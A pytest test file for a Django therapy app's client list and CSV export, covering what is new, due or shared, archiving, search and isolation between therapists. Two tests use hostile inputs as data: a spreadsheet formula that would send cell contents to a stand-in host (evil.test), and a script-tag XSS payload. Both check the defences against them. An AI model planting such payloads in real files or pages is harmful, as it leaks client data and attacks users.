"""The list of clients: what waits on whom, and nothing that a therapist may not know."""

import csv
import io
import re
import uuid
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.utils import timezone

from exercises import access, carelinks
from exercises.models import Assignment, How, Invitation, Pulse, Reading, Response, Share
from tests.conftest import a_file, a_therapist, at_the_desk, signed_in
from tests.exercises.answering.test_queries import queries
from tests.exercises.care.many import many_clients
from tests.exercises.care.rows import rows
from tests.exercises.care_of import CANARY, assigned, shared
from tests.exercises.pulse.checkin import told
from tests.exercises.workbook import Workbook
from trustbook.accounts import erasure

LABEL = "Tuesday, 10:00"
IDLE = (LABEL, "–", "–", "–", "–")
NOW = datetime(2026, 5, 20, 12, tzinfo=UTC)


@pytest.fixture
def clock():
    """A day on which the dates of these tests are near."""
    with time_machine.travel(NOW, tick=False) as clock:
        yield clock


@pytest.fixture
def look(clock, therapist):
    """Opens the list on that day."""
    desk = at_the_desk(therapist)
    return lambda address="/care/", **data: desk.get(address, data)


@pytest.fixture
def says():
    """Puts a response of one of the two on what is shared."""

    def say(link, share, writer):
        response = Response(
            link=link,
            answer_id=share.row_id,
            revision=share.revision_id,
            shared_on=NOW.date(),
            writer=writer,
            token=uuid.uuid4(),
            written_at=timezone.now(),
        )
        response.seal(link, CANARY)
        response.save()
        return response

    return say


def test_nobody_yet(desk):
    page = desk.get("/care/")
    assert "Nobody is your client here yet." in page.content.decode()
    assert rows(page) == []


def test_a_client_with_whom_nothing_is_there(clock, care, look):
    page = look()
    assert rows(page) == [IDLE]
    assert "Nothing is new." in page.content.decode()
    assert page.headers["Cache-Control"].endswith("private")
    assert "no-store" in page.headers["Cache-Control"]


def test_assigned_begun_and_done(trial, clock, care, look):
    assigned(care, "last", due_on=date(2026, 5, 24), starts_on=date(2026, 5, 21))
    assert rows(look()) == [(LABEL, "–", "Last · from 21 May", "–", "24 May")]
    assigned(care, "every-kind", due_on=date(2026, 6, 1))
    assigned(care, "looking-back", begun_on=date(2026, 5, 4))
    assigned(care, "for-two", done_on=date(2026, 5, 5))
    told = "Last · from 21 May / Every kind · not begun / Looking back · begun 4 May / and 1 more"
    assert rows(look()) == [(LABEL, "client", told, "–", "24 May")]


def test_what_was_done_before_the_last_session_or_withdrawn_is_no_news(trial, clock, care, look):
    assigned(care, "last", done_on=date(2026, 5, 5))
    assigned(care, "every-kind", done_on=date(2026, 3, 5))
    assigned(care, "looking-back", withdrawn_on=date(2026, 5, 6), due_on=date(2026, 5, 7))
    assert rows(look()) == [(LABEL, "–", "Last · done 5 May", "–", "–")]
    care.file.met_on = date(2026, 5, 5)
    care.file.save()
    assert rows(look()) == [(LABEL, "–", "Last · done 5 May", "–", "–")]
    care.file.met_on = date(2026, 5, 6)
    care.file.save()
    assert rows(look()) == [IDLE]


@pytest.mark.parametrize(
    ("zone", "said"),
    [("Pacific/Kiritimati", "was due 20 May"), ("UTC", "20 May"), ("America/Lima", "20 May")],
)
def test_a_day_is_the_clients(trial, clock, care, look, writer, zone, said):
    """At noon in London it is tomorrow already on Kiritimati."""
    writer.time_zone = zone
    writer.save()
    assigned(care, due_on=date(2026, 5, 20))
    assert rows(look()) == [(LABEL, "client", "Every kind · not begun", "–", said)]


def test_a_year_is_said_where_it_is_not_this_one(trial, clock, care, look):
    assigned(care, due_on=date(2027, 1, 2))
    assert [row[4] for row in rows(look())] == ["2 Jan 2027"]


def test_nothing_of_what_a_client_does_for_themselves(trial, clock, care, look, writer):
    """Put aside, read, written, taken further: the page is the same, byte for byte."""
    row = assigned(care, due_on=date(2026, 5, 24))
    before = without_token(look()), look("/care/clients.csv").content
    browser = signed_in(writer)
    book = Workbook(browser, writer)
    book.saved("moment", CANARY)
    book.saved("place", "home")
    told(writer, date(2026, 5, 4), {"openness": 7})
    Reading.objects.create(reader=writer, lesson_id="every-kind", place=3)
    Assignment.objects.filter(pk=row.pk).update(aside_at=timezone.now())
    assert (without_token(look()), look("/care/clients.csv").content) == before


def test_what_is_shared_and_not_yet_read(trial, clock, care, look, therapist, writer):
    browser = signed_in(writer)
    share = shared(care, browser)
    shared(care, browser, "place", "home")
    assert rows(look()) == [(LABEL, "you", "–", "2 answers", "–")]
    assert "Two things are new: not opened or answered yet." in look().content.decode()
    access.read_shared(therapist, care.file.pk, How.SCREEN, answer=share.answer_id)
    assert rows(look()) == [(LABEL, "you", "–", "1 answer", "–")]
    access.read_shared(therapist, care.file.pk, How.SCREEN)
    assert rows(look()) == [IDLE]
    assert CANARY not in look().content.decode()


def test_another_therapists_reading_is_not_mine(trial, clock, care, look, writer):
    share = shared(care, signed_in(writer))
    carelinks.end(care)
    other = a_therapist("other@example.org")
    link = carelinks.make_link(a_file(other, "theirs"), writer)
    again = Share(owner=writer, care=link, audience="therapist", since=NOW.date())
    again.answer_id, again.answer_revision_id = share.row_id, share.revision_id
    again.save()
    access.read_shared(other, link.file.pk, How.SCREEN)
    assert rows(look()) == [(f"{LABEL} | not linked", *IDLE[1:])]
    assert rows(at_the_desk(other).get("/care/")) == [("theirs", *IDLE[1:])]


def test_a_later_text_is_new_again(trial, clock, care, look, therapist, writer):
    share = shared(care, signed_in(writer))
    access.read_shared(therapist, care.file.pk, How.SCREEN)
    share.delete()
    Workbook(signed_in(writer), writer).save("moment", "another", base=str(share.revision_id))
    assert rows(look()) == [IDLE]
    answer = Workbook(signed_in(writer), writer).answer("moment")
    pin = type(share).fields_of(answer, answer.head)
    type(share).objects.create(
        owner=writer, care=care, audience="therapist", since=NOW.date(), **pin
    )
    assert rows(look()) == [(LABEL, "you", "–", "1 answer", "–")]


def test_a_week(trial, clock, care, look, writer):
    told(writer, date(2026, 5, 4), {"openness": 7})
    week = Pulse.objects.get(author=writer)
    pin = {"pulse": week, "pulse_revision": week.head}
    share = {"owner": writer, "care": care, "audience": "therapist", "since": NOW.date()}
    Share.objects.create(**share, **pin)
    assert rows(look()) == [(LABEL, "you", "–", "1 week", "–")]


def test_a_reply_is_new_until_it_is_looked_at_or_answered(
    trial, clock, care, look, therapist, writer, says
):
    share = shared(care, signed_in(writer))
    access.read_shared(therapist, care.file.pk, How.SCREEN)
    says(care, share, therapist)
    assert rows(look()) == [IDLE]
    clock.shift(60)
    says(care, share, writer)
    new = (LABEL, "you", "–", "1 reply", "–")
    assert rows(look()) == [new]
    clock.shift(60)
    access.read_shared(therapist, care.file.pk, How.SCREEN)
    assert rows(look()) == [IDLE]
    clock.shift(60)
    says(care, share, writer)
    assert rows(look()) == [new]
    clock.shift(60)
    says(care, share, therapist)
    assert rows(look()) == [IDLE]
    clock.shift(60)
    reply = says(care, share, writer)
    reply.withdrawn_at = timezone.now()
    reply.save()
    assert rows(look()) == [IDLE]
    says(care, share, writer)
    share.delete()
    assert rows(look()) == [IDLE]


def test_invited_and_too_late(clock, therapist, look):
    file = a_file(therapist, "New")
    marks = {"secret_mark": b"1" * 32, "code_mark": b"2" * 32}
    Invitation.objects.create(inviter=therapist, file=file, **marks)
    assert rows(look()) == [("New | invited, open until 23 May, 12:00", "client", *IDLE[2:])]
    clock.shift(timedelta(hours=73))
    assert rows(at_the_desk(therapist).get("/care/")) == [("New | not linked", *IDLE[1:])]


@pytest.mark.parametrize("how", ["ended", "erased", "never accepted", "not active"])
def test_there_is_one_wording_for_whoever_is_no_client(
    trial, clock, care, look, writer, therapist, how
):
    assigned(care, due_on=date(2026, 5, 24))
    shared(care, signed_in(writer))
    if how == "ended":
        carelinks.end(care)
    elif how == "erased":
        erasure.erase(writer)
    elif how == "not active":
        writer.is_active = False
        writer.save()
    else:
        care.file.delete()
        a_file(therapist, LABEL)
    assert rows(look()) == [(f"{LABEL} | not linked", *IDLE[1:])]
    [line] = table(look("/care/clients.csv"))[1:]
    assert line == [LABEL, "not linked", "", "", "0", "0", "0", "", "", "", "no"]


def test_another_therapist_sees_nothing_of_it(trial, care, writer):
    assigned(care)
    shared(care, signed_in(writer))
    other = at_the_desk(a_therapist("other@example.org"))
    assert rows(other.get("/care/")) == []
    assert len(table(other.get("/care/clients.csv"))) == 1


@pytest.fixture
def three(trial, clock, care, therapist, writer, stranger, partner):
    """Tuesday has something new, Zoë something due, Adam nothing; one file is in the archive."""
    shared(care, signed_in(writer))
    zoe = carelinks.make_link(a_file(therapist, "Zoë"), stranger)
    assigned(zoe, due_on=date(2026, 5, 18))
    carelinks.make_link(a_file(therapist, "Adam"), partner)
    away = a_file(therapist, "Past 10")
    away.archived_at = NOW
    away.save()


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ({}, [LABEL, "Zoë", "Adam"]),
        ({"order": "label"}, ["Adam", LABEL, "Zoë"]),
        ({"order": "due"}, ["Zoë", "Adam", LABEL]),
        ({"show": "you"}, [LABEL]),
        ({"show": "client"}, ["Zoë"]),
        ({"show": "due"}, ["Zoë"]),
        ({"show": "unlinked"}, []),
        ({"show": "archived"}, ["Past 10 | not linked, in the archive"]),
    ],
)
def test_some_of_them_in_some_order(three, look, asked, found):
    assert [row[0] for row in rows(look(**asked))] == found
    names = [name.partition(" |")[0] for name in found]
    assert [line[0] for line in table(look("/care/clients.csv", **asked))[1:]] == names


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ("zoe", ["Zoë"]),
        ("tues", [LABEL]),
        ("10", ["Past 10 | not linked, in the archive", LABEL]),
        ("10 tue", [LABEL]),
        ("!", []),
        (" ", [LABEL, "Zoë", "Adam"]),
        ("nobody", []),
    ],
)
def test_a_search_by_label(three, therapist, asked, found):
    page = at_the_desk(therapist).post("/care/", {"words": asked})
    assert [row[0] for row in rows(page)] == found


def test_an_address_never_holds_what_is_searched_for(three, look):
    assert len(rows(look(words="zoe"))) == 3


@pytest.mark.parametrize(
    "asked", [{"show": "everything"}, {"order": "written"}, {"show": "\0"}, {"show": "a" * 9_000}]
)
def test_what_makes_no_sense_is_said(three, look, asked):
    page = look(**asked)
    assert page.status_code == 422
    assert "There is no such choice. Choose one from the list." in page.content.decode()
    table = look("/care/clients.csv", **asked)
    assert (table.status_code, table.headers["Location"].partition("?")[0]) == (302, "/care/")


@pytest.mark.parametrize("words", ["a" * 101, "\0"])
def test_a_search_that_makes_no_sense_is_said(three, therapist, words):
    page = at_the_desk(therapist).post("/care/", {"words": words})
    assert page.status_code == 422
    assert 'class="errorlist"' in page.content.decode()


def test_what_is_new_in_a_file_that_is_put_away_is_not_lost(trial, clock, care, look, writer):
    shared(care, signed_in(writer))
    care.file.archived_at = NOW
    care.file.save()
    page = look().content.decode()
    assert "Nothing is new." in page
    assert "Something is new in a file in the archive." in page


def test_a_table_that_no_spreadsheet_calculates(trial, clock, care, look, therapist, writer):
    care.file.seal_label(therapist, '=HYPERLINK("https://evil.test/?"&B2)')
    care.file.met_on = date(2026, 5, 1)
    care.file.save()
    assigned(care, due_on=date(2026, 5, 18))
    shared(care, signed_in(writer))
    reply = look("/care/clients.csv")
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.headers["Content-Disposition"] == 'attachment; filename="clients.csv"'
    assert "no-store" in reply.headers["Cache-Control"]
    assert table(reply) == [
        [
            *("Client", "State", "Waits on", "Assigned"),
            *("Not yet read: answers", "Not yet read: weeks", "New replies"),
            *("Next due", "Was due", "Last session", "In the archive"),
        ],
        [
            *('\'=HYPERLINK("https://evil.test/?"&B2)', "linked", "you"),
            *("Every kind · not begun", "1", "0", "0", "", "2026-05-18", "2026-05-01", "no"),
        ],
    ]


def test_a_label_is_a_text_on_the_page(care, desk, therapist):
    care.file.seal_label(therapist, "<script>alert(1)</script> & \x02file\x03")
    care.file.save()
    page = desk.get("/care/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; \x02file\x03" in page
    assert "<script>alert" not in page


def test_a_file_is_put_away_and_taken_out(care, desk, writer, writing):
    address = f"/care/clients/{care.file.pk}/archive/"
    before = [writing.get(path).content for path in ("/workbook/", "/sharing/")]
    assert desk.post(address).headers["Location"] == "/care/"
    page = desk.get("/care/")
    assert rows(page) == []
    assert "The file is in the archive now" in page.content.decode()
    assert rows(desk.get("/care/?show=archived")) == [(f"{LABEL} | in the archive", *IDLE[1:])]
    assert [writing.get(path).content for path in ("/workbook/", "/sharing/")] == before
    assert access.care_of(writer) == care
    desk.post(address, {"away": "yes"})
    assert rows(desk.get("/care/")) == []
    desk.post(address)
    assert rows(desk.get("/care/")) == [IDLE]
    desk.post(address, {"away": "no"})
    assert rows(desk.get("/care/")) == [IDLE]


def test_nobody_elses_file_is_put_away(care):
    other = at_the_desk(a_therapist("other@example.org"))
    for file in (care.file.pk, uuid.uuid4()):
        assert other.post(f"/care/clients/{file}/archive/").status_code == 404
    care.file.refresh_from_db()
    assert care.file.archived_at is None


@pytest.mark.parametrize("address", ["/care/", "/care/clients.csv", "/care/?show=you&order=due"])
def test_as_many_queries_for_three_clients_as_for_one(trial, therapist, desk, address):
    assert asked_for(therapist, desk, address, 1, 2) == [QUERIES] * 2


@pytest.mark.prove
def test_as_many_queries_for_a_thousand_clients_as_for_one(trial, therapist, desk):
    assert asked_for(therapist, desk, "/care/", 1, 99, 900) == [QUERIES] * 3
    assert len(rows(desk.get("/care/"))) == 1_000


QUERIES = (9, 0)


def asked_for(therapist, desk, address, *more):
    """How many queries the page takes, each time that there are so many more clients."""
    counts = []
    for number in more:
        many_clients(therapist, number)
        desk.get(address)
        counts.append(queries(lambda: desk.get(address)))
    return counts


def without_token(page):
    """The page without what is chance."""
    return re.sub(r'(name="csrfmiddlewaretoken" value=)"[^"]*"', r"\1", page.content.decode())


def table(reply):
    """The rows of a table, as a spreadsheet reads them."""
    assert reply.status_code == 200
    held = reply.content.decode()
    assert held.startswith("\N{ZERO WIDTH NO-BREAK SPACE}")
    return list(csv.reader(io.StringIO(held[1:], newline="")))
